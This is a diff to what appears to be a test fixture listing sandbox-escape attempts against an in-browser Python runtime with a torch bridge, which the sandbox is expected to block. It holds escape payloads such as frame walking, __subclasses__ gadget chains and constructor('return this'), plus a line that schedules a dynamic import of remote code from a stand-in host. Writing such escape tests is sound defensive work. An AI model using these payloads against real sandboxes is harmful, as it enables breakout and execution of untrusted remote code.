@@ -9,14 +9,17 @@ const MODULE = (name: string) =>
 /** Each raises an error, or prints nothing but `no`. */
 export const WAYS_OUT: readonly (readonly [name: string, program: string])[] = [
   ['gc and a timer', `${JS}js.setTimeout("import('https://elsewhere.example/x.js')", 0)`],
-  ['an attribute of a tensor’s number', 'import torch\ntorch.ones(1)._v.constructor.anything = 5'],
+  [
+    'an attribute of a tensor’s handle',
+    'import torch\ntorch.ones(1)._handle.constructor.anything = 5',
+  ],
   [
     'frames',
-    'import sys\nf = sys._getframe()\nwhile f.f_back:\n    f = f.f_back\nf.f_globals["_bridge"]._call.constructor("return this")',
+    'import sys\nf = sys._getframe()\nwhile f.f_back:\n    f = f.f_back\nf.f_globals["_of_handle"].__globals__["ask"].__globals__["_write"].constructor("return this")',
   ],
   [
     'a traceback',
-    'try:\n    1 / 0\nexcept Exception as e:\n    f = e.__traceback__.tb_frame\nwhile f.f_back:\n    f = f.f_back\nf.f_globals["_bridge"]._call.bind',
+    'try:\n    1 / 0\nexcept Exception as e:\n    f = e.__traceback__.tb_frame\nwhile f.f_back:\n    f = f.f_back\nf.f_globals["_of_handle"].__globals__["ask"].bind',
   ],
   [
     'ctypes',
@@ -31,11 +34,11 @@ export const WAYS_OUT: readonly (readonly [name: string, program: string])[] = [
   ['importlib', 'import importlib, sys\nsys.meta_path.pop(0)\nimportlib.import_module("js").fetch'],
   [
     '__subclasses__',
-    'c = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0]\nc.__init__.__globals__["sys"].modules["torch._bridge"]._call.constructor',
+    'c = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0]\nc.__init__.__globals__["sys"].modules["torch._channel"]._write.constructor',
   ],
   [
     '__globals__',
-    'import torch\nb = torch._bridge if hasattr(torch, "_bridge") else None\nb.ask.__globals__["_call"].constructor("return this")()',
+    'import torch\ntorch._channel.ask.__globals__["_write"].constructor("return this")()',
   ],
   ['WebAssembly', `${JS}js.WebAssembly.Module`],
   ['a promise', `${JS}js.Promise.resolve(1).then(print)`],
@@ -53,18 +56,26 @@ export const WAYS_OUT: readonly (readonly [name: string, program: string])[] = [
     'import fcntl, os\nf = os.open("/lib/python314.zip", os.O_RDONLY)\nfcntl.fcntl(f, fcntl.F_SETFL, os.O_RDWR)\nos.write(f, b"x")',
   ],
   [
-    'an object’s own functions by their names',
-    'from torch import _bridge\n_bridge.kernel("__defineGetter__", "softmax", print)\nprint("no")',
+    'an operation by the name of what every object has',
+    'from torch import _channel\n_channel.ask("constructor", (), ())',
   ],
   [
-    'what every array has',
-    'from torch import _bridge\nprint("no" if _bridge.give("__proto__") is None else "out")',
+    'a handle that was never given',
+    'import torch\nx = torch.ones(1)\nx._handle = "__proto__"\nprint(x)',
+  ],
+  [
+    'noise in the channel',
+    'from torch import _channel\nfor noise in (b"", b"{", b"#123", b"[1, 2]", b\'["sum", [[1, 2]], [], [9]]\'):\n    try:\n        _channel._write(_channel._channel, noise)\n        _channel._read(_channel._channel, 9)\n    except OSError:\n        pass\nprint("no")',
+  ],
+  [
+    'the channel under another number',
+    'import os\nfrom torch import _channel\nos.dup2(1, _channel._channel)\nimport torch\ntorch.ones(1)',
   ],
 ];
 
 /** A program that leaves what it can, and one that looks for it. */
 export const LEAVE =
-  'import builtins, math, sys, torch\nmath.kept = torch.ones(1)._v\nbuiltins.kept = math.kept\nsys.kept = 1\ntry:\n    torch.ones(1)._v.constructor.anything = 5\nexcept BaseException:\n    pass';
+  'import builtins, math, sys, torch\nmath.kept = torch.ones(1)._handle\nbuiltins.kept = math.kept\nsys.kept = 1\ntry:\n    torch.ones(1)._handle.constructor.anything = 5\nexcept BaseException:\n    pass';
 export const LOOK =
   'import builtins, math, sys, torch\nprint(hasattr(math, "kept"), hasattr(builtins, "kept"), hasattr(sys, "kept"), torch.ones(2).sum())';
 export const NOTHING_LEFT = 'False False False tensor(2.)\n';
